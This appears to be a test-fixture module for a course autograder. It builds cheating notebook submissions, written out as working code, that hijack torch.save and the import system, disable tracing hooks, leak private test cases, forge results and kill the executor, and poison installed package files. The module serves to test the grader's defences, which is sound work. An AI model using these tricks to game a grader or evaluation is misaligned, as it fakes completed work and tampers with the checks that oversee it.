"""Submissions that try to get marks without the work: the attacks of issue 17.

Each attack is built from a real exercise notebook (the solution or the student's stub
notebook) with a function replaced or a cell added, as a student who wants marks would
write it. ``ATTACKS`` maps a name to (exercise prefix, notebook, the score the same
answers earn without the trick, a fragment the feedback must contain). The tests in
``test_grading_attacks.py`` grade them all and hold each to that score.

The "before" column of the attack table (exercises_and_grading.md and the issue's
report) was measured by grading these notebooks with the grader as it was before
issue 17 (``python tests/grading_attacks.py OUT`` writes them to a folder).
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import torch

ROOT = Path(__file__).resolve().parent.parent
SOLUTIONS = ROOT / "exercises" / "solutions"
STUDENTS = ROOT / "exercises"
IMPORTS = "from transformer_lib.grading import check"
SECRET = "98765.4375"  # in the instructor's private case: must never reach feedback
# The operator that F.scaled_dot_product_attention's softmax runs on the CPU: torch 2.5
# added aten::_safe_softmax for it (a fully masked row gives 0, not nan); before, the
# plain aten::_softmax. The grader names whichever ran.
SDPA_SOFTMAX_OP = (
    "aten::_safe_softmax"
    if hasattr(torch.ops.aten, "_safe_softmax")
    else "aten::_softmax"
)


def load(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def code_cell(source: str) -> dict:
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": {},
        "outputs": [],
        "source": source,
    }


def build(
    base: Path, cheat: str = "", after: str = IMPORTS, at_end: str = "", **functions
) -> dict:
    """``base`` with functions replaced, ``cheat`` inserted after the cell holding
    ``after``, and ``at_end`` appended as a last cell."""
    nb = load(base)
    cells = nb["cells"]
    for name, source in functions.items():
        at = next(
            i for i, c in enumerate(cells) if f"def {name}(" in "".join(c["source"])
        )
        cells[at] = code_cell(source)
    if cheat:
        at = next(i for i, c in enumerate(cells) if after in "".join(c["source"]))
        cells.insert(at + 1, code_cell(cheat))
    if at_end:
        cells.append(code_cell(at_end))
    return nb


EX03 = SOLUTIONS / "ex03_attention.ipynb"
EX03_STUB = STUDENTS / "ex03_attention.ipynb"
EX06_STUB = STUDENTS / "ex06_encoder.ipynb"
EX06 = SOLUTIONS / "ex06_encoder.ipynb"
EX08_STUB = STUDENTS / "ex08_loss_and_training.ipynb"

UNIFORM_SOFTMAX = """\
def softmax(x):
    return torch.ones_like(x) / x.shape[-1]
"""
UNIFORM_ATTENTION = """\
def attention(q, k, v):
    weights = torch.ones(*q.shape[:-1], k.shape[-2], dtype=q.dtype) / k.shape[-2]
    return weights @ v, weights
"""
UNIFORM = {"softmax": UNIFORM_SOFTMAX, "attention": UNIFORM_ATTENTION}
HONEST_UNIFORM = 1  # uniform weights are right only with one key (1 point of 12)

# 1. torch.save / torch.load wrapped in the kernel: the outputs it saves become the
# references computed on the plan's own inputs.
WRAP_SAVE = """\
import torch as _t

_real_save, _real_load, _seen = _t.save, _t.load, {}


def _load(*args, **kwargs):
    obj = _real_load(*args, **kwargs)
    if isinstance(obj, dict) and all(isinstance(v, dict) and "cases" in v for v in obj.values()):
        _seen["plan"] = obj
    return obj


def _save(obj, f, *args, **kwargs):
    plan = _seen.get("plan")
    if plan and isinstance(obj, dict) and "exercises" in obj:
        from transformer_lib.grading import get_exercise

        for eid, record in obj["exercises"].items():
            reference = get_exercise(eid).reference
            record.pop("missing", None)
            record["cases"] = [
                {"status": "returned", "value": reference(*a, **k), "used": []}
                for _, a, k in plan[eid]["cases"]
            ]
    return _real_save(obj, f, *args, **kwargs)


_t.save, _t.load = _save, _load
"""

# 2. a sys.meta_path finder wraps the grader's kernel module when it is imported afresh
META_PATH = """\
import importlib.abc
import importlib.machinery
import sys


class _Wrap(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name != "transformer_lib.grading.kernel":
            return None
        spec = importlib.machinery.PathFinder.find_spec(name, path)
        real_exec = spec.loader.exec_module

        def exec_module(module):
            real_exec(module)
            real_call = module.call_cases

            def call_cases(fn, cases, timeout, forbidden_names=(), raw=False):
                from transformer_lib.grading import exercises

                ref = next(e.reference for e in exercises() if e.function == fn.__name__)
                out = real_call(fn, cases, timeout, (), raw)
                for o, (_, a, k) in zip(out, cases):
                    o.update(status="returned", value=module.plain(ref(*a, **k)), used=[])
                return out

            module.call_cases = call_cases

        spec.loader.exec_module = exec_module
        return spec


sys.meta_path.insert(0, _Wrap())
"""

# 3. the recorder's hooks made no-ops, then the library called by a computed name
HOOKS_OFF = """\
import sys

from torch.overrides import TorchFunctionMode

sys.setprofile = lambda *args: None
TorchFunctionMode.__enter__ = lambda self: self
TorchFunctionMode.__exit__ = lambda self, *args: None
"""
LIBRARY_BY_NAME = """\
def _lib():
    return __import__("transformer" + "_lib.attention", fromlist=["_"])


def softmax(x):
    return _lib().softmax(x, dim=-1)


def attention(q, k, v):
    return _lib().scaled_dot_product_attention(q, k, v)
"""

# 4. escapes inside the graded function, no top-level code: calls made from C, and
# the torch-function layer switched off
C_ESCAPE_SOFTMAX = """\
def softmax(x):
    with torch._C.DisableTorchFunction():
        return list(map(getattr(torch, "soft" + "max"), [x], [-1]))[0]
"""

# 5. operators that are not on the name lists
PRIVATE_SOFTMAX = """\
def softmax(x):
    return torch._softmax(x, -1, False)
"""
SDPA_SOFTMAX = """\
def softmax(x):
    S = x.shape[-1]
    q = torch.ones(*x.shape[:-1], 1, 1, dtype=x.dtype)  # one query, d = 1
    k = x.unsqueeze(-1)  # key j is the score x_j: q . k_j = x_j, scale 1/sqrt(1)
    v = torch.eye(S, dtype=x.dtype).expand(*x.shape[:-1], S, S)
    return torch.nn.functional.scaled_dot_product_attention(q, k, v).squeeze(-2)
"""
PRIVATE_ATTENTION = """\
def attention(q, k, v):
    return torch._scaled_dot_product_attention_math(q, k, v)
"""
RMS_LAYER_NORM = """\
def layer_norm(x, weight, bias, eps=1e-5):
    centred = x - x.mean(dim=-1, keepdim=True)
    return torch.nn.functional.rms_norm(centred, (x.shape[-1],), weight, eps) + bias
"""
GROUP_LAYER_NORM = """\
def layer_norm(x, weight, bias, eps=1e-5):
    D = x.shape[-1]
    flat = x.reshape(-1, 1, D)
    out = torch.native_group_norm(flat, None, None, flat.shape[0], 1, D, 1, eps)[0]
    return out.reshape(x.shape) * weight + bias
"""

# 5b. (found after the defence, by the lead) getattr handed to functools.partial reaches
# sys by a computed name; map(sys.setprofile, [None]) switches the profile hook off from C
# code, with no profile event; the library's own layer_norm then runs unseen
PARTIAL_GETATTR_LAYER_NORM = """\
import functools

_get = functools.partial(getattr, torch)


def layer_norm(x, weight, bias, eps=1e-5):
    s = _get("s" + "ys")
    lib = s.modules["import" + "lib"].import_module("transformer_lib." + "layers")
    list(map(s.setprofile, [None]))
    f = functools.partial(getattr, lib)("layer" + "_norm")
    return list(map(f, [x], [weight], [bias], [eps]))[0]
"""

# 6. the library's source compiled under another file name, swapped in after the defs
COMPILED_LIBRARY = """\
import transformer_lib.attention as _m

_ns = {}
with open(_m.__file__) as _f:
    exec(compile(_f.read(), "<my own notes>", "exec"), _ns)
softmax = lambda x: _ns["softmax"](x, dim=-1)
attention = lambda q, k, v: _ns["scaled_dot_product_attention"](q, k, v)
"""


# 7. literal answers for the public cases (the same inputs on every run, once)
def literal_softmax() -> str:
    """softmax answering the public cases from a table of literals, else uniform."""
    import torch

    from transformer_lib.grading import get_exercise

    exercise = get_exercise("ex03.softmax")
    rows = []
    for case in exercise.cases:
        if case.private:
            continue
        (x,), _ = case.inputs()
        y = exercise.reference(x)
        rows.append(
            f"    ({x.flatten()[:3].tolist()!r}, torch.tensor({y.tolist()!r}, "
            f"dtype={y.dtype})),"
        )
    del torch
    return (
        "ANSWERS = [\n" + "\n".join(rows) + "\n]\n\n\n"
        "def softmax(x):\n"
        "    for first, answer in ANSWERS:\n"
        "        if x.flatten()[:3].tolist() == first:\n"
        "            return answer\n"
        "    return torch.ones_like(x) / x.shape[-1]\n"
    )


# 8. the plan read from its file, the private cases raised into the feedback
PLAN_LEAK = """\
import glob

for _path in glob.glob("../**/*.pt", recursive=True):
    _plan = torch.load(_path, weights_only=False)
    if isinstance(_plan, dict) and "ex03.softmax" in _plan:
        raise ValueError("private: " + repr(_plan["ex03.softmax"]["cases"][-1][1]))
"""
LEAK_FROM_FUNCTION = """\
def softmax(x):
    raise ValueError("inputs: " + repr(x.tolist()))
"""

# 9. its own outputs file and a "done" log, then the executor killed
FORGE_AND_KILL = """\
import glob, json, os, signal

from transformer_lib.grading import get_exercise

_plan = glob.glob("../private/*.pt")
_folders = glob.glob("../private/outputs-*")
if _plan and _folders:
    plan = torch.load(_plan[0], weights_only=False)
    done = {
        eid: {
            "cases": [
                {"status": "returned", "value": get_exercise(eid).reference(*a, **k), "used": []}
                for _, a, k in item["cases"]
            ]
        }
        for eid, item in plan.items()
    }
    path = os.path.join(os.path.abspath(_folders[0]), "forged.pt")
    torch.save({"exercises": done}, path)
    log = {"status": "done", "cells": {}, "skipped": [], "restarts": 0, "not_run": [],
           "output_truncated": False, "crashed": {}, "outputs": [path]}
    with open("../log.json", "w") as f:
        json.dump(log, f)
    os.kill(os.getppid(), signal.SIGKILL)
"""

# 10. writing into the installed package: kernel.py, a .pyc, a new module
WRITE_KERNEL_PY = """\
import transformer_lib.grading.kernel as _k

with open(_k.__file__, "a") as _f:
    _f.write('''
_real_call_cases = call_cases


def call_cases(fn, cases, timeout, forbidden_names=(), raw=False):
    from transformer_lib.grading import exercises

    ref = next(e.reference for e in exercises() if e.function == fn.__name__)
    out = _real_call_cases(fn, cases, timeout, (), raw)
    for o, (_, a, k) in zip(out, cases):
        o.update(status="returned", value=plain(ref(*a, **k)), used=[])
    return out  # POISONED
''')
"""
NEW_MODULE = """\
import os

import transformer_lib.grading as _g

with open(os.path.join(os.path.dirname(_g.__file__), "checks_zz_poison.py"), "w") as _f:
    _f.write(
        "from . import compare as _c, core as _core\\n"
        "_c.compare = lambda *args, **kwargs: None\\n"
        "_core.compare_outputs = lambda *args, **kwargs: None  # POISONED\\n"
    )
"""
PYC = """\
import importlib.util, marshal, os

import transformer_lib.grading.compare as _c

_source = _c.__file__
with open(_source) as _f:
    _text = _f.read() + "\\ncompare = lambda *args, **kwargs: None  # POISONED\\n"
_text = _text.replace(
    "def compare_outputs(", "def compare_outputs(*args, **kwargs):\\n    return None\\n\\n\\ndef _x("
)
_st = os.stat(_source)
_pyc = importlib.util.cache_from_source(_source)
os.makedirs(os.path.dirname(_pyc), exist_ok=True)
_header = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
_header += (int(_st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
_header += (_st.st_size & 0xFFFFFFFF).to_bytes(4, "little")
with open(_pyc, "wb") as _f:
    _f.write(_header + marshal.dumps(compile(_text, _source, "exec")))
"""

PRIVATE_CHECKS = f"""\
import torch

from transformer_lib.grading import Case, extend

extend(
    "ex03.softmax",
    [Case("instructor's secret row", (torch.tensor([{SECRET}, 17.5, -3.25]),))],
)
"""


def attacks() -> dict[str, tuple[str, dict, float, str]]:
    """name -> (assignment, notebook, the score its answers earn without the trick,
    a fragment the feedback must contain once defended)."""
    ex03_uniform = {k: v for k, v in UNIFORM.items()}
    return {
        "wrap_torch_save": (
            "ex03",
            build(EX03, WRAP_SAVE, **ex03_uniform),
            HONEST_UNIFORM,
            "values differ",
        ),
        "wrap_torch_save_ex06": (
            "ex06",
            build(EX06_STUB, WRAP_SAVE),
            0,
            "not implemented",
        ),
        "wrap_torch_save_ex08": (
            "ex08",
            build(EX08_STUB, WRAP_SAVE),
            0,
            "not implemented",
        ),
        "meta_path_finder": (
            "ex03",
            build(EX03, META_PATH, **ex03_uniform),
            HONEST_UNIFORM,
            "values differ",
        ),
        "hooks_off": (
            "ex03",
            build(EX03, HOOKS_OFF, attention="# with softmax", softmax=LIBRARY_BY_NAME),
            0,
            "`__import__`",
        ),
        "c_level_escape": (
            "ex03",
            build(EX03, softmax=C_ESCAPE_SOFTMAX, attention=UNIFORM_ATTENTION),
            HONEST_UNIFORM,
            "torch._C",
        ),
        "private_softmax": (
            "ex03",
            build(EX03, softmax=PRIVATE_SOFTMAX, attention=UNIFORM_ATTENTION),
            HONEST_UNIFORM,
            "`torch._softmax`, a private attribute",
        ),
        "sdpa_as_softmax": (
            "ex03",
            build(EX03, softmax=SDPA_SOFTMAX, attention=UNIFORM_ATTENTION),
            HONEST_UNIFORM,
            SDPA_SOFTMAX_OP,
        ),
        "private_attention": (
            "ex03",
            build(EX03, softmax=UNIFORM_SOFTMAX, attention=PRIVATE_ATTENTION),
            HONEST_UNIFORM,
            "torch._scaled_dot_product_attention_math",
        ),
        "rms_norm_layer_norm": (
            "ex06.layer_norm",
            build(EX06, layer_norm=RMS_LAYER_NORM),
            0,
            "rms_norm",
        ),
        "group_norm_layer_norm": (
            "ex06.layer_norm",
            build(EX06, layer_norm=GROUP_LAYER_NORM),
            0,
            "native_group_norm",
        ),
        "partial_getattr_profile_off": (
            "ex06.layer_norm",
            build(EX06, layer_norm=PARTIAL_GETATTR_LAYER_NORM),
            0,
            "the module `sys`",
        ),
        "compiled_library": (
            "ex03",
            build(EX03_STUB, COMPILED_LIBRARY, after='check("ex03.attention"'),
            0,
            "changes `_ns`",
        ),
        "literal_answers": (
            "ex03.softmax",
            build(EX03, softmax=literal_softmax()),
            0,
            "values differ",
        ),
        # the solution's answers: 6 points, and 1 for the instructor's private case
        "plan_leak": ("ex03.softmax", build(EX03, PLAN_LEAK), 7, ""),
        "leak_from_function": (
            "ex03.softmax",
            build(EX03, softmax=LEAK_FROM_FUNCTION),
            0,
            "ValueError",
        ),
        "forge_and_kill": (
            "ex03",
            build(EX03_STUB, FORGE_AND_KILL),
            0,
            "not implemented",
        ),
        "write_kernel_py": (
            "ex03",
            build(EX03, WRITE_KERNEL_PY, **ex03_uniform),
            HONEST_UNIFORM,
            "transformer_lib/grading/kernel.py",
        ),
        "new_module": (
            "ex03",
            build(EX03, NEW_MODULE, **ex03_uniform),
            HONEST_UNIFORM,
            "checks_zz_poison.py",
        ),
        "pyc": (
            "ex03",
            build(EX03, PYC, **ex03_uniform),
            HONEST_UNIFORM,
            "__pycache__",
        ),
    }


def honest_uniform() -> dict:
    """The next submission after a poisoning one: it must score its own 1 point."""
    return build(EX03, **UNIFORM)


def write_all(folder: Path) -> None:
    """Each attack as folder/NAME.ipynb, and folder/ASSIGNMENTS.json."""
    folder.mkdir(parents=True, exist_ok=True)
    assignments = {}
    for name, (assignment, nb, _, _) in attacks().items():
        (folder / f"{name}.ipynb").write_text(
            json.dumps(nb, indent=1), encoding="utf-8"
        )
        assignments[name] = assignment
    (folder / "honest_uniform.ipynb").write_text(
        json.dumps(honest_uniform(), indent=1), encoding="utf-8"
    )
    (folder / "private").mkdir(exist_ok=True)
    (folder / "private" / "secret.py").write_text(PRIVATE_CHECKS, encoding="utf-8")
    (folder / "ASSIGNMENTS.json").write_text(json.dumps(assignments), encoding="utf-8")


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
